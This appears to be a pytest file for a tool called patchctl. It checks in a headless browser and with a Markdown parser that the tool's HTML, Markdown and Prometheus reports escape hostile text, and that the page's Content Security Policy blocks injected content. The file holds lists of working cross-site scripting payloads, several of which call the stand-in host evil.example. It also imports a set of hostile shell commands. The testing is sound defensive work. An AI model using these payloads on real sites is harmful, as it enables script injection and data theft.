"""Script, style, links and pictures in every text that a page shows: a browser shows them as text, and does nothing.

Every field of every value that a page is made of holds all of the attacks; what a browser makes of it is compared with
the text that was given. That the policy of a page would hold by itself is tried by putting live attacks into a copy.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from patchctl.commands.describe import Described
from patchctl.commands.hits import Incidence
from patchctl.commands.proving import Proof
from patchctl.model.shell import shell_word
from patchctl.publishing import BEGIN, END, between_markers
from patchctl.render.escape import https_address, visible, visible_block
from patchctl.render.hits.page import hits_page
from patchctl.render.hits.prometheus import hits_prometheus
from patchctl.render.matrix import matrix_page
from patchctl.render.pages.html import html_page
from patchctl.render.pages.readme import readme_banner
from tests.attack_text import COMMANDS, MARKUP
from tests.browser import CHROMIUM, OWN, Browser, Visit, remembering_proxy
from tests.hostile_desk import make_hostile_desk
from tests.made import Maker

TURNS = 3

LIVE = (
    "<script>window.evil=1;document.title='run';document.cookie='evil=1';window.name='evil';alert(1)</script>",
    "<script src=http://evil.example/script></script>",
    "<img src=http://evil.example/img onerror=window.evil=1>",
    "<svg onload=window.evil=1><script>window.evil=1</script></svg>",
    "<iframe src=http://evil.example/frame></iframe>",
    '<iframe srcdoc="<script>parent.evil=1</script>"></iframe>',
    "<object data=http://evil.example/object></object>",
    "<embed src=http://evil.example/embed>",
    "<link rel=stylesheet href=http://evil.example/link>",
    "<style>@import 'http://evil.example/import'; body { background: url(http://evil.example/url) #010203 }</style>",
    '<p style="background: url(http://evil.example/style)">x</p>',
    "<video src=http://evil.example/video poster=http://evil.example/poster autoplay></video>",
    "<input autofocus onfocus=window.evil=1>",
    "<details open ontoggle=window.evil=1>x</details>",
    "<body onload=window.evil=1 background=http://evil.example/body>",
)
"""What a browser obeys where nothing hinders it."""

QUIETER = (
    "<svg><use href=http://evil.example/use#x></use><foreignObject><script>window.evil=1</script></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/refresh'>",
    "<base href=http://evil.example/>",
    "<a href=javascript:window.evil=1 ping=http://evil.example/ping>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=http://evil.example/form><button formaction=javascript:window.evil=1>x</button></form>",
    "</pre></code></td></table></details></article></main></title></style></script></textarea></svg>",
    "<!-- --> --!> ]]> <![CDATA[ <?xml ?> <!doctype html>",
    '" onmouseover="window.evil=1" style="x:y" id="',
    "' autofocus onfocus='window.evil=1",
    "&lt;b&gt; &#60;script&#62; &amp; &#x3c;img src=x&#x3e;",
    "${window.evil=1} {{window.evil=1}} `window.evil=1`",
    "+ADw-script+AD4-window.evil=1+ADw-/script+AD4-",
    "<template><script>1</script></template><noscript><p title='</noscript><img src=x onerror=window.evil=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.evil=1&gt;'>",
    "http://evil.example/plain https://evil.example www.evil.example javascript:alert(1)",
    f"[a](javascript:alert(1)) ![b](http://evil.example/z) [c]: http://evil.example {BEGIN} {END}",
    "| cell | **bold** | ~~gone~~ | $x$ | # head | > quote | 1. one | --- |",
    MARKUP,
)
ATTACKS = " ".join(" ".join((*LIVE, *QUIETER, *COMMANDS.values())).split(" "))
STRUCTURE = {"html", "head", "meta", "title", "style", "body", "main", "header", "section", "article", "nav", "footer"}
STRUCTURE |= {"h1", "h2", "h3", "h4", "p", "b", "code", "span", "div", "ul", "li", "a", "br", "dl", "dt", "dd", "pre"}
STRUCTURE |= {"table", "tbody", "tr", "th", "td", "details", "summary"}
CHART = {"svg", "rect", "line", "text"}


class Texts:
    """Gives every field a text of its own, all attacks and a number, and remembers which field has which."""

    def __init__(self) -> None:
        """Begin with none."""
        self.fields: list[tuple[str, str]] = []

    def __call__(self, field: str) -> str:
        """Return the text of the next field; some are longer than any name."""
        number = len(self.fields)
        text = f"«{number}» {ATTACKS}{' ' + 'a' * 3000 if number % 50 == 7 else ''} «/{number}»"
        self.fields.append((field, text))
        return text

    def shown(self, text: str) -> dict[str, set[str]]:
        """Return each field that stands whole and to the letter in a page's text, and those that stand otherwise."""
        found: dict[str, set[str]] = {"whole": set(), "otherwise": set()}
        for number, body in re.findall(r"«(\d+)» (.*?) «/\1»", text, re.DOTALL):
            field, given = self.fields[int(number)]
            whole = given_as(f"«{number}» {body} «/{number}»")
            # as it stands, put on one line first, in a block, or quoted as a word for a shell
            forms = visible(given), visible(" ".join(given.split())), visible_block(given), visible(shell_word(given))
            fits = whole in map(given_as, forms) or f"$'{whole}'" == given_as(forms[-1])
            found["whole" if fits else "otherwise"].add(field)
        return found


def given_as(text: str) -> str:
    """A browser gives line ends as blanks, and several blanks as one; so does a sentence that is put on one line."""
    return " ".join(text.split())


def described(turn: int) -> tuple[Described, Texts]:
    texts = Texts()
    found: Described = Maker(texts, turn).make(Described)
    return found, texts


def incidence(turn: int) -> tuple[Incidence, Texts]:
    texts = Texts()
    found: Incidence = Maker(texts, turn).make(Incidence)
    return found, texts


needs_browser = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")


@pytest.fixture(scope="module")
def proxy() -> Iterator[tuple[int, list[bytes]]]:
    with remembering_proxy() as found:
        yield found


@pytest.fixture(scope="module")
def browser(proxy: tuple[int, list[bytes]], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with Browser(tmp_path_factory.mktemp("profile"), proxy[0]) as found:
        yield found


def assert_dead(visit: Visit, came: list[bytes], page: Path, title: str, *, chart: bool = False) -> None:
    """Nothing ran, nothing was asked for, nothing is there but the page's own structure."""
    seen = visit.seen
    assert (seen["evil"], seen["name"], seen["cookie"]) == ("undefined", "", "")
    assert seen["title"] == title
    assert seen["address"] == page.as_uri()
    assert (visit.asked, visit.said, visit.dialogs, visit.frames) == ((), (), (), 0)
    assert set(seen["elements"]) <= STRUCTURE | (CHART if chart else set())
    assert seen["handlers"] == []
    assert [link for link in seen["links"] if not link.startswith(("#", "https://"))] == []
    assert [request for request in came if not OWN.search(request)] == []


@needs_browser
@pytest.mark.slow
@pytest.mark.attack("web-text")
class TestInABrowser:
    def test_every_text_of_a_report_is_shown_and_none_is_obeyed(
        self, browser: Browser, proxy: tuple[int, list[bytes]], tmp_path: Path
    ) -> None:
        page = tmp_path / "report.html"
        whole = set()
        for turn in range(TURNS):
            found, texts = described(turn)
            page.write_text(html_page(found), "ascii")
            visit = browser.visit(page)
            builds = ", ".join(f"{name} {build}" for name, build in found.builds.items())
            assert_dead(visit, proxy[1], page, given_as(f"Local patches of {visible(builds)}"))
            shown = texts.shown(visit.seen["text"])
            assert shown["otherwise"] == set()
            whole |= shown["whole"]
        wanted = {"Patch.title", "Patch.why", "Patch.how", "Patch.removal", "Fix.ref", "Fix.note", "FileFinding.path"}
        wanted |= {"Target.site", "SourceDiff.data", "SourceDiff.name", "Case.reason", "Hold.reason", "Avoid.cost"}
        wanted |= {"HistoryAuthor.login", "HistoryRecord.host", "HistoryRecord.reason", "HistoryFile.path"}
        wanted |= {"ProcessFact.command", "Problem.message", "Problem.hint", "EvidenceItem.file", "Signal.log"}
        assert wanted <= whole

    @pytest.mark.parametrize("turn", range(TURNS))
    def test_every_text_of_the_hits_is_shown_and_none_is_obeyed(
        self, turn: int, browser: Browser, proxy: tuple[int, list[bytes]], tmp_path: Path
    ) -> None:
        found, texts = incidence(turn)
        page = tmp_path / "hits.html"
        page.write_text(hits_page(found), "ascii")
        visit = browser.visit(page)
        assert_dead(visit, proxy[1], page, "patchctl hits", chart=True)
        shown = texts.shown(visit.seen["text"])
        assert shown["otherwise"] == set()
        assert {"EntryCount.id", "EntryCount.title", "EntryCount.kinds", "EntryCount.instances"} <= shown["whole"]

    def test_the_pages_of_a_hostile_place(
        self, browser: Browser, proxy: tuple[int, list[bytes]], tmp_path: Path
    ) -> None:
        """The same through the command line, with all that lies around the site."""
        place = make_hostile_desk(tmp_path)
        page = tmp_path / "page.html"
        for arguments in (
            ["report", "--format", "html"],
            ["hits", "--all", "--html", *map(str, place.around.glob("*.log"))],
        ):
            assert place.desk.run(*arguments, "--output", str(page)).code == 0
            visit = browser.visit(page)
            assert_dead(visit, proxy[1], page, visit.seen["title"], chart=True)
            assert ":skull:" in visit.seen["text"]
            page.unlink()

    @pytest.mark.parametrize("number", range(len(LIVE)))
    def test_the_policy_alone_stops_each_attack(
        self, number: int, browser: Browser, proxy: tuple[int, list[bytes]], tmp_path: Path
    ) -> None:
        """Although somebody forgot to escape it: nothing runs and nothing is asked for, and the console says why."""
        found, _ = described(0)
        page = tmp_path / "forgotten.html"
        page.write_text(html_page(found).replace("<main>", f"<main>{LIVE[number]}"), "ascii")
        visit = browser.visit(page)
        assert (visit.seen["evil"], visit.dialogs, visit.seen["cookie"]) == ("undefined", (), "")
        assert visit.seen["ground"] != "rgb(1, 2, 3)"
        assert visit.said != ()
        assert all("Content Security Policy" in message for message in visit.said), visit.said
        assert [request for request in proxy[1] if not OWN.search(request)] == []

    def test_without_the_policy_they_do_run(self, tmp_path: Path) -> None:
        """The tests above can fail: the same page without its policy runs scripts, and asks for what it is told to."""
        found, _ = described(0)
        page = tmp_path / "open.html"
        text = html_page(found).replace("<main>", "<main>" + "".join(LIVE[:4] + LIVE[8:10]))
        page.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text), "ascii")
        with remembering_proxy() as (port, came), Browser(tmp_path / "profile", port) as browser:
            visit = browser.visit(page)
        assert visit.seen["evil"] == "1"
        assert visit.seen["title"] == "run"
        assert visit.dialogs == ("1",)
        for what in ("script", "img", "link"):
            assert f"http://evil.example/{what}" in visit.asked
        assert any(b"evil.example" in request for request in came)


@pytest.mark.attack("web-text")
@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "data:text/html,x", "http://a.example", "//a.example", "https://a\u202e", "https://a\n"],
)
def test_no_address_but_https_becomes_a_link(address: str) -> None:
    assert https_address(address) is None
    assert https_address(f" {address}") is None


@pytest.mark.attack("markdown-text")
class TestMarkdown:
    """What a real parser makes of the pages: the text that was given, and nothing else."""

    @staticmethod
    def rendered(page: str) -> tuple[set[str], str]:
        """Return the kinds of tokens, and the text with its line ends."""
        parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
        kinds, text = set(), ""
        for token in parser.parse(page):
            kinds.add(token.type.removesuffix("_open").removesuffix("_close"))
            for inner in token.children or ():
                kinds.add(inner.type.removesuffix("_open").removesuffix("_close"))
                text += "" if inner.content in {"<code>", "</code>"} else inner.content
            text += "\n" * (token.type == "inline")
        return kinds, text

    @pytest.mark.parametrize("turn", range(TURNS))
    def test_a_banner_is_text_and_stays_between_its_markers(self, turn: int) -> None:
        found, texts = described(turn)
        banner = readme_banner(found)
        around = f"# Mine\n\n{BEGIN}\nold\n{END}\n\nmine too\n".encode()
        once = between_markers(around, banner, "README.md")
        assert between_markers(once, banner, "README.md") == once
        assert (once.count(BEGIN.encode()), once.count(END.encode())) == (1, 1)
        assert between_markers(once, "old\n", "README.md") == around
        assert all(line.startswith(">") for line in banner.split("\n")[1:-2])
        kinds, text = self.rendered(banner)
        code = {"html_inline", "softbreak", "code_block"}  # <code> around what no backquote can hold
        assert kinds <= {"blockquote", "paragraph", "inline", "text", "strong", "code_inline"} | code | LISTS
        assert set(re.findall("<[^>]*>", "".join(re.findall(r"<[^!].*?>", banner)))) <= {"<code>", "</code>"}
        shown = texts.shown(text)
        assert shown["otherwise"] == set()
        assert {"Target.site", "Distribution.build"} <= shown["whole"]

    def test_a_matrix_is_a_table_of_text(self) -> None:
        whole = set()
        for turn in range(2 * TURNS):
            texts = Texts()
            found: Proof = Maker(texts, turn).make(Proof)
            kinds, text = self.rendered(matrix_page(found))
            plain = {"heading", "paragraph", "inline", "text", "softbreak"}
            assert kinds <= plain | {"code_inline", "code_block", "html_inline"} | LISTS | TABLE
            shown = texts.shown(text)
            assert shown["otherwise"] == set()
            whole |= shown["whole"]
        assert {"Patch.id", "Patch.title", "Fix.ref", "Fix.claimed", "Trial.builds"} <= whole


LISTS = {"bullet_list", "list_item"}
TABLE = {"table", "thead", "tbody", "tr", "th", "td"}


@pytest.mark.attack("web-text")
@pytest.mark.parametrize("turn", range(TURNS))
def test_a_label_of_a_metric_ends_where_it_should(turn: int) -> None:
    """Read back as the format says, every label is the text; no line is one that the text began."""
    found, texts = incidence(turn)
    label = r'[a-z]+="(?:[^"\\\n]|\\[\\"n])*"'
    for line in hits_prometheus(found).splitlines():
        assert re.fullmatch(rf"# (?:HELP|TYPE) patchctl_\w+ .*|patchctl_\w+\{{(?:{label},?)*\}} [0-9.e+-]+", line), line
    told = re.sub(r'\\([\\"])', r"\1", hits_prometheus(found))
    assert texts.shown(told)["otherwise"] == set()
    assert "EntryCount.cells" in texts.shown(told)["whole"]
